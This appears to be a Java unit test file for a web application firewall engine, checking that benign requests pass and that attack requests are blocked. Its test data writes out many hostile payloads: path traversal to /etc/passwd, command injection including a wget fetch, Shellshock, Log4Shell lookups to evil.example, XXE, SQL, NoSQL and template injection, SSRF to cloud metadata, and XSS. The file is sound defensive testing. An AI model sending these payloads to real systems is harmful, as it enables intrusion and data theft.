package dev.aegis.waf;

import dev.aegis.config.WafConfig;
import dev.aegis.config.WafPolicy;
import dev.aegis.config.WafPolicy.WafMode;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

class WafEngineTest {
    static final WafEngine ENGINE = WafEngine.compile(new WafConfig(WafMode.BLOCK, 1, 5, 131072, List.of()));
    static final List<Map.Entry<String, String>> BROWSER = List.of(
            Map.entry("Host", "shop.example.com"),
            Map.entry("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0 Safari/537.36"),
            Map.entry("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
            Map.entry("Accept-Language", "en-US,en;q=0.7"),
            Map.entry("Accept-Encoding", "gzip, deflate, br"));

    static WafPolicy policy(WafMode mode, int pl, WafPolicy.Exclusion... ex) {
        return new WafPolicy(mode, pl, 5, List.of(ex));
    }

    /**
     * Every match with block mode's verdict: block mode stops at the threshold, detect mode runs every rule, and
     * these tests look at both.
     */
    static WafDecision full(WafEngine engine, InspectionInput in, WafPolicy policy) {
        WafDecision verdict = engine.inspect(in, policy);
        WafDecision all = engine.inspect(in, new WafPolicy(WafMode.DETECT, policy.paranoia(),
                policy.anomalyThreshold(), policy.exclusions()));
        return new WafDecision(all.score(), verdict.blocked(), all.matches());
    }

    static WafDecision get(String uri) {
        return full(ENGINE, new InspectionInput("GET", uri, BROWSER, new byte[0], false), policy(WafMode.BLOCK, 1));
    }

    static WafDecision withHeader(String name, String value) {
        List<Map.Entry<String, String>> h = new ArrayList<>(BROWSER);
        h.add(Map.entry(name, value));
        return full(ENGINE, new InspectionInput("GET", "/", h, new byte[0], false), policy(WafMode.BLOCK, 1));
    }

    static WafDecision post(String contentType, String body) {
        List<Map.Entry<String, String>> h = new ArrayList<>(BROWSER);
        h.add(Map.entry("Content-Type", contentType));
        return full(ENGINE, new InspectionInput("POST", "/submit", h, body.getBytes(StandardCharsets.UTF_8), false),
                policy(WafMode.BLOCK, 1));
    }

    static boolean family(WafDecision d, String family) {
        return d.matches().stream().anyMatch(m -> m.family().equals(family));
    }

    @ParameterizedTest
    @ValueSource(strings = {"/api/users", "/search?q=hello+world&page=2", "/?q=cat+food+and+dog+food",
        "/?q=I+would+like+to+request+the+local+version", "/?redirect=https://www.example.org/home",
        "/?file=report.pdf", "/?name=O%27Brien", "/?expr=a%2Bb", "/?tpl=%7B%7Bname%7D%7D", "/?p=bash+away+in+the+gym",
        "/?p=LC+%26+NC+-+Boys038-XL.jpg", "/?price=10%25+off", "/docs/java.html?topic=java+lang+courses"})
    void benignRequestsPass(String uri) {
        WafDecision d = get(uri);
        assertThat(d.blocked()).as("%s -> %s", uri, d.matches()).isFalse();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/?f=../../../../etc/passwd", "/?f=..%252f..%252f..%252fetc%252fpasswd",
        "/?f=%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini", "/?f=....//....//etc/shadow", "/?f=..\\..\\windows\\win.ini",
        "/?f=php://filter/convert.base64-encode/resource=index.php", "/static/../../../proc/self/environ"})
    void traversalAndLfi(String uri) {
        WafDecision d = get(uri);
        assertThat(d.blocked()).as("%s", uri).isTrue();
        assertThat(family(d, "lfi")).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/?u=http://10.0.0.1/shell.txt?", "/?page=http://203.0.113.9/x.php"})
    void remoteFileInclusion(String uri) {
        assertThat(get(uri).blocked()).as(uri).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/?h=example.com;cat+/etc/passwd", "/?h=x|whoami", "/?h=%60id%60", "/?h=$(wget+http://x.y/z)",
        "/?h=a%0Auname+-a", "/?h=c'a't${IFS}/etc/issue", "/?h=x%26%26powershell+-enc+AAAA", "/?h=;w'h'o'am'i"})
    void commandInjection(String uri) {
        WafDecision d = get(uri);
        assertThat(d.blocked()).as("%s %s", uri, d.matches()).isTrue();
    }

    @Test
    void shellshockInUserAgent() {
        assertThat(withHeader("User-Agent", "() { :; }; /bin/bash -c 'id'").blocked()).isTrue();
        assertThat(withHeader("X-Note", "function() { return 1; }").blocked()).isFalse();
    }

    @ParameterizedTest
    @ValueSource(strings = {"${jndi:ldap://evil.example/a}", "${${lower:j}ndi:${lower:l}dap://x/a}",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x/a}"})
    void log4shellInAnyHeader(String payload) {
        WafDecision d = withHeader("Accept-Language", payload);
        assertThat(d.blocked()).as(payload).isTrue();
        assertThat(family(d, "log4shell")).isTrue();
        assertThat(get("/?x=" + java.net.URLEncoder.encode(payload, StandardCharsets.UTF_8)).blocked()).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/?c=%3C%3Fphp+system($_GET['c']);+%3F%3E", "/?c=phpinfo()", "/?c=base64_decode('YWJj')",
        "/?c=java.lang.Runtime.getRuntime().exec('id')", "/?c=%24%7B%23_memberAccess%7D", "/?t=%7B%7B7*7%7D%7D",
        "/?t=%7B%7Bconfig.items()%7D%7D", "/?t=%24%7B7*7%7D", "/?t=%3C%25%3D+7*7+%25%3E",
        "/?o=O:8:%22stdClass%22:1:%7Bs:1:%22a%22;i:1;%7D"})
    void codeInjection(String uri) {
        WafDecision d = get(uri);
        assertThat(d.blocked()).as("%s %s", uri, d.matches()).isTrue();
    }

    @Test
    void xxeNoSqlLdapSsiMailSsrfCrlf() {
        assertThat(post("application/xml", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>").blocked()).isTrue();
        assertThat(post("application/xml", "<?xml version=\"1.0\"?><order><id>7</id></order>").blocked()).isFalse();
        assertThat(get("/login?user[$ne]=x&pass[$ne]=y").blocked()).isTrue();
        assertThat(post("application/json", "{\"user\":{\"$gt\":\"\"},\"pass\":{\"$gt\":\"\"}}").blocked()).isTrue();
        assertThat(get("/?user=*)(uid=*))(|(uid=*").blocked()).isTrue();
        assertThat(get("/?x=%3C!--%23exec%20cmd=%22ls%22%20--%3E").blocked()).isTrue();
        assertThat(get("/?to=a@b.c%0Abcc:victim@example.com").blocked()).isTrue();
        assertThat(get("/?url=http://169.254.169.254/latest/meta-data/").blocked()).isTrue();
        assertThat(get("/?url=http://[::1]:8080/admin").blocked()).isTrue();
        assertThat(get("/?next=%0D%0ASet-Cookie:%20sid=evil").blocked()).isTrue();
        assertThat(get("/?next=/account/home").blocked()).isFalse();
    }

    @Test
    void scannersAndProtocol() {
        assertThat(withHeader("User-Agent", "sqlmap/1.7 (https://sqlmap.org)").blocked()).isTrue();
        assertThat(ENGINE.inspect(new InspectionInput("FOO", "/", BROWSER, new byte[0], false), policy(WafMode.BLOCK, 1)).blocked()).isTrue();
        WafDecision put = ENGINE.inspect(new InspectionInput("PUT", "/", BROWSER, new byte[0], false), policy(WafMode.BLOCK, 1));
        assertThat(put.blocked()).isFalse();
        assertThat(ENGINE.inspect(new InspectionInput("PUT", "/", BROWSER, new byte[0], false), policy(WafMode.BLOCK, 2)).blocked()).isTrue();
        assertThat(get("/?a=foo%00").blocked()).isTrue();
        assertThat(post("application/json", "{\"a\": [1, 2,").matches()).anyMatch(m -> m.ruleId() == 920500);
    }

    @Test
    void jsonTargetsAreNamedByPath() {
        WafDecision d = post("application/json", "{\"user\":{\"name\":\"../../etc/passwd\"}}");
        assertThat(d.matches()).anyMatch(m -> m.target().equals("JSON:user.name"));
    }

    @Test
    void multipartFieldsAndFilenames() {
        String body = "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\nContent-Type: text/plain\r\n\r\nhi\r\n"
                + "--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n;cat /etc/passwd\r\n--b--\r\n";
        WafDecision d = post("multipart/form-data; boundary=b", body);
        assertThat(d.matches()).anyMatch(m -> m.target().equals("FILES:f") && m.ruleId() == 933110);
        assertThat(d.matches()).anyMatch(m -> m.target().equals("ARGS:q") && m.family().equals("rce"));
    }

    @Test
    void modesScoringAndExclusions() {
        InspectionInput in = new InspectionInput("GET", "/?password=../../etc/passwd", BROWSER, new byte[0], false);
        WafDecision block = ENGINE.inspect(in, policy(WafMode.BLOCK, 1));
        assertThat(block.blocked()).isTrue();
        assertThat(block.score()).isEqualTo(block.matches().stream().mapToInt(WafMatch::severity).sum());
        assertThat(block.matches()).allMatch(m -> m.fragment().length() <= 80);
        WafDecision detect = ENGINE.inspect(in, policy(WafMode.DETECT, 1));
        assertThat(detect.blocked()).isFalse();
        // block mode stops at the match that reaches the threshold; detect mode runs every rule
        assertThat(block.score()).isBetween(5, detect.score());
        assertThat(detect.matches()).containsAll(block.matches());
        assertThat(ENGINE.inspect(in, policy(WafMode.OFF, 1))).isSameAs(WafDecision.CLEAN);
        WafPolicy.Exclusion[] all = detect.matches().stream()
                .map(m -> new WafPolicy.Exclusion(m.ruleId(), "ARGS:password", 1)).toArray(WafPolicy.Exclusion[]::new);
        WafDecision excluded = ENGINE.inspect(in, policy(WafMode.BLOCK, 1, all));
        assertThat(excluded.matches()).noneMatch(m -> m.target().equals("ARGS:password"));
        // one rule counts once per target even if the value appears twice
        WafDecision twice = get("/?a=../../etc/passwd&a=../../etc/passwd");
        assertThat(twice.matches().stream().filter(m -> m.ruleId() == 930110).count()).isEqualTo(1);
    }

    @Test
    void aWholeArgsExclusionCoversJsonFieldsAndXmlText() {
        List<Map.Entry<String, String>> h = new ArrayList<>(BROWSER);
        h.add(Map.entry("Content-Type", "application/json"));
        InspectionInput json = new InspectionInput("POST", "/submit", h,
                "{\"note\":{\"text\":\"' OR '1'='1\"}}".getBytes(StandardCharsets.UTF_8), false);
        assertThat(full(ENGINE, json, policy(WafMode.BLOCK, 1)).matches())
                .anyMatch(m -> m.ruleId() == 942100 && m.target().equals("JSON:note.text"));
        assertThat(ENGINE.inspect(json, policy(WafMode.BLOCK, 1, new WafPolicy.Exclusion(942100, "ARGS", 1)))
                .matches()).noneMatch(m -> m.ruleId() == 942100);
        assertThat(ENGINE.inspect(json, policy(WafMode.BLOCK, 1, new WafPolicy.Exclusion(942100, "ARGS:user", 1)))
                .matches()).anyMatch(m -> m.ruleId() == 942100);

        h.set(h.size() - 1, Map.entry("Content-Type", "application/xml"));
        InspectionInput xml = new InspectionInput("POST", "/submit", h,
                "<note>' OR '1'='1</note>".getBytes(StandardCharsets.UTF_8), false);
        assertThat(full(ENGINE, xml, policy(WafMode.BLOCK, 1)).matches())
                .anyMatch(m -> m.ruleId() == 942100 && m.target().equals("XML"));
        // (the raw body is REQUEST_BODY, another target)
        assertThat(ENGINE.inspect(xml, policy(WafMode.BLOCK, 1, new WafPolicy.Exclusion(942100, "ARGS", 1)))
                .matches()).noneMatch(m -> m.ruleId() == 942100 && m.target().equals("XML"));
    }

    @Test
    void paranoiaGating() {
        InspectionInput noAccept = new InspectionInput("GET", "/", List.of(Map.entry("Host", "x")), new byte[0], false);
        assertThat(ENGINE.inspect(noAccept, policy(WafMode.BLOCK, 1)).matches()).noneMatch(m -> m.ruleId() == 920300);
        assertThat(ENGINE.inspect(noAccept, policy(WafMode.BLOCK, 2)).matches()).anyMatch(m -> m.ruleId() == 920300);
    }

    @Test
    void ruleIdsAndInspectedTargets() {
        assertThat(ENGINE.ruleIds()).contains(930110, 942100, 941100, 944150, 913100);
        assertThat(ENGINE.ruleInspects(942100, "ARGS:password")).isTrue();
        assertThat(ENGINE.ruleInspects(913100, "ARGS:password")).isFalse();
        assertThat(ENGINE.ruleInspects(944150, "REQUEST_HEADERS:Accept-Language")).isTrue();
        assertThat(ENGINE.ruleInspects(123456, "ARGS")).isFalse();
    }

    @Test
    void fuzzNeverThrows() {
        Random rnd = new Random(42);
        String[] seeds = {"/?q=%c0%ae%ZZ%u12", "{\"a\":[{\"b\":\"${${lower:j}ndi:\"}", "--b\r\nContent-Disposition: form-data; name=\"x",
            "<!DOCTYPE [<!ENTITY", "%%%25%2525&#x;&#99999999;\\x\\u12", "() { :; };"};
        String[] cts = {"application/json", "multipart/form-data; boundary=b", "application/x-www-form-urlencoded",
            "text/xml", "", "multipart/form-data"};
        for (int i = 0; i < 4000; i++) {
            byte[] b = new byte[rnd.nextInt(300)];
            rnd.nextBytes(b);
            if (i % 2 == 0) {
                byte[] s = seeds[rnd.nextInt(seeds.length)].getBytes(StandardCharsets.UTF_8);
                b = java.util.Arrays.copyOf(s, s.length + rnd.nextInt(20));
                for (int k = 0; k < 3; k++) {
                    b[rnd.nextInt(b.length)] = (byte) rnd.nextInt(256);
                }
            }
            String asText = new String(b, StandardCharsets.ISO_8859_1);
            List<Map.Entry<String, String>> h = new ArrayList<>(BROWSER);
            h.add(Map.entry("Content-Type", cts[rnd.nextInt(cts.length)]));
            h.add(Map.entry("Cookie", asText));
            InspectionInput in = new InspectionInput(i % 3 == 0 ? asText : "POST", "/" + asText, h, b, rnd.nextBoolean());
            assertThatCode(() -> ENGINE.inspect(in, policy(WafMode.BLOCK, 4))).doesNotThrowAnyException();
        }
    }

    @Test
    void hostileNestedEncodingIsBounded() {
        StringBuilder sb = new StringBuilder("/?q=");
        for (int i = 0; i < 200_000; i++) {
            sb.append("%25");
        }
        long t0 = System.nanoTime();
        ENGINE.inspect(new InspectionInput("GET", sb.toString(), BROWSER, new byte[0], false), policy(WafMode.BLOCK, 4));
        assertThat((System.nanoTime() - t0) / 1_000_000).isLessThan(2000);
    }

    @Test
    void paddingWithThousandsOfArgumentsOrPartsDoesNotHideAnAttack() {
        StringBuilder q = new StringBuilder("/search?");
        for (int i = 0; i < 5000; i++) {
            q.append('p').append(i).append("=1&");
        }
        assertThat(get(q + "x=%3Cscript%3Ealert(1)%3C/script%3E").blocked()).isTrue();
        // the header after a padded query is still inspected
        List<Map.Entry<String, String>> h = new ArrayList<>(BROWSER);
        h.add(Map.entry("X-Api-Version", "${jndi:ldap://evil.example/a}"));
        assertThat(ENGINE.inspect(new InspectionInput("GET", q.toString(), h, new byte[0], false),
                policy(WafMode.BLOCK, 1)).blocked()).isTrue();
        StringBuilder form = new StringBuilder();
        for (int i = 0; i < 5000; i++) {
            form.append('p').append(i).append("=1&");
        }
        assertThat(post("application/x-www-form-urlencoded", form + "q=1%27%20OR%20%271%27%3D%271").blocked()).isTrue();
        StringBuilder multipart = new StringBuilder();
        for (int i = 0; i < 300; i++) {
            multipart.append("--b\r\nContent-Disposition: form-data; name=\"f").append(i).append("\"\r\n\r\nok\r\n");
        }
        multipart.append("--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n<script>alert(1)</script>\r\n--b--\r\n");
        WafDecision parts = post("multipart/form-data; boundary=b", multipart.toString());
        assertThat(parts.blocked()).isTrue();
        assertThat(parts.matches()).anyMatch(m -> m.ruleId() == 920380);
        // padding with values that could each carry an attack ends in a refusal, not a half-read request
        StringBuilder noisy = new StringBuilder("/search?");
        for (int i = 0; i < 9000; i++) {
            noisy.append('p').append(i).append("=a+b&");
        }
        assertThat(get(noisy.toString()).matches()).anyMatch(m -> m.ruleId() == 920380);
    }
    /** A header whose value cannot be read the first time: the decoding stage of the headers fails part-way. */
    private static final class FailingOnceHeader implements Map.Entry<String, String> {
        private boolean failed;

        @Override
        public String getKey() {
            return "X-Flaky";
        }

        @Override
        public String getValue() {
            if (!failed) {
                failed = true;
                throw new IllegalStateException("decoder failure");
            }
            return "x";
        }

        @Override
        public String setValue(String value) {
            throw new UnsupportedOperationException();
        }
    }

    @Test
    void aDecoderFailureInTheHeadersStillLeavesTheHeaderFactsRight() {
        List<Map.Entry<String, String>> h = new ArrayList<>();
        h.add(new FailingOnceHeader());
        h.addAll(BROWSER);
        h.add(Map.entry("X-Original-URL", "/admin"));
        WafDecision d = ENGINE.inspect(new InspectionInput("GET", "/", h, new byte[0], false),
                new WafPolicy(WafMode.DETECT, 2, 5, List.of()));
        List<Integer> ids = d.matches().stream().map(WafMatch::ruleId).toList();
        // refused as unparseable, and the facts read from the headers after the failure are there:
        // Host, Accept and User-Agent are present (920280/920300/920320 stay quiet), the restricted one is seen
        assertThat(ids).contains(920000, 920450).doesNotContain(920280, 920300, 920320);
    }
}
